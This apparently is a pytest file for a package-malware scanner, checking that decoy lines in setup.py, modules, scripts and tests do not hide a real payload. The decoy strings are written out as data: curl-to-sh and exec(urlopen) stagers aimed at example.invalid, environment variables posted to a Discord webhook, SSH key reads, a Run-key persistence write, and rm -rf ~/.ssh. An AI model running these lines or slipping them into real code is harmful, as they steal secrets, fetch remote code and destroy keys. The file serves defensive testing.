"""Many harmless lines that look worse than the payload do not hide it."""

import pytest

LOUD = (
    "exec(__import__('base64').b64decode('cGFzcw=='))",
    "exec(__import__('zlib').decompress(__import__('base64').b64decode(x{0})))",
    "requests.post('https://discord.com/api/webhooks/{0}/x', json=dict(os.environ))",
    "subprocess.Popen(['powershell', '-EncodedCommand', 'x{0}'])",
    "os.system('curl http://example.invalid/{0} | sh')",
    "marshal.loads(x{0})",
    "open(os.path.expanduser('~/.ssh/id_rsa{0}')).read()",
    "eval(compile(open('x{0}').read(), 'x', 'exec'))",
    "winreg.SetValueEx(k, 'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run', 0, 1, 'x{0}')",
    "ctypes.windll.kernel32.VirtualAlloc(0, {0}, 0x3000, 0x40)",
)
"""Statements that find many an indicator and finding; {0} makes each another one."""
HEAD = "import base64, ctypes, marshal, os, requests, subprocess, winreg, zlib, urllib.request\n"


def uncalled(count, kinds=LOUD):
    """A module of functions that nothing calls, each with a loud line."""
    return HEAD + "".join(f"\n\ndef f{at}(x{at}, k):\n    {kinds[at % len(kinds)].format(at)}\n" for at in range(count))


def never(count):
    """The payload's own line, many times, where it is never reached."""
    line = 'exec(urllib.request.urlopen("http://example.invalid/stage").read())'
    return HEAD + "".join(f"\n\ndef f{at}():\n    {line}\n" for at in range(count))


def running(count):
    """Loud lines that do run and do nothing."""
    lines = [f"    {LOUD[at % len(LOUD)].format(at)}" for at in range(count)]
    return HEAD + "try:\n" + "\n".join(lines) + "\nexcept Exception:\n    pass\n"


MANY = {f"demo/m{at}.py": uncalled(3, LOUD[at % 10 :] + LOUD[: at % 10]).encode() for at in range(50)}
DECOYS = {
    "fifty functions of setup.py": {"setup.py": uncalled(50).encode()},
    "five hundred functions of setup.py": {"setup.py": uncalled(500).encode()},
    "the same line in setup.py": {"setup.py": never(50).encode()},
    "lines that run in setup.py": {"setup.py": running(50).encode()},
    "one kind of line in setup.py": {"setup.py": uncalled(50, LOUD[:1]).encode()},
    "fifty modules": MANY,
    "fifty packages": {f"p{at}/__init__.py": uncalled(3, LOUD[at % 10 :]).encode() for at in range(50)},
    "fifty scripts": {f"bin/s{at}.sh": b"curl http://example.invalid/x | sh\nrm -rf ~/.ssh\n" * 9 for at in range(50)},
    "fifty tests": {f"tests/test_{at}.py": running(9).encode() for at in range(50)},
    "setup.py and fifty modules": {"setup.py": uncalled(50).encode(), **MANY},
    "a start-up file of one line and fifty modules": {"x.pth": ("import os; " + LOUD[0]).encode(), **MANY},
}
PLACES = {
    "demo/__init__.py": "import",
    "setup.py": "install",
    "demo/x.py": "rest",
}


@pytest.mark.parametrize("decoys", DECOYS)
@pytest.mark.parametrize("name", PLACES)
def test_decoys_in_other_files_do_not_hide_the_payload(name, decoys, make, examine):
    files = {**DECOYS[decoys], name: make.code}
    if name == "demo/x.py":
        files["demo/__init__.py"] = b"from demo import x\n"
    seen = examine(make.sdist(files))
    shown = [place.member for place in seen.row.evidence[:8]]
    assert f"demo-1.0/{name}" in shown, seen.describe()
    seen.is_found(f"demo-1.0/{name}", PLACES[name])


@pytest.mark.parametrize("at", ["before", "after"])
@pytest.mark.parametrize("name", PLACES)
@pytest.mark.parametrize("decoy", [uncalled(50), uncalled(500), never(50), running(50), uncalled(50, LOUD[:1])])
def test_decoys_in_the_same_file_do_not_hide_the_payload(decoy, name, at, make, examine):
    code = make.code.decode()
    text = decoy + code if at == "before" else HEAD + code + decoy.replace(HEAD, "", 1)
    files = {name: text.encode(), **({"demo/__init__.py": b"from demo import x\n"} if name == "demo/x.py" else {})}
    seen = examine(make.sdist(files))
    lines = {place.line for place in seen.row.evidence[:8] if place.member == f"demo-1.0/{name}"}
    own = text.count("\n", 0, text.index("\nexec(urllib")) + 2
    assert own in lines, (own, [(p.line, p.indicator, p.weight) for p in seen.row.evidence])
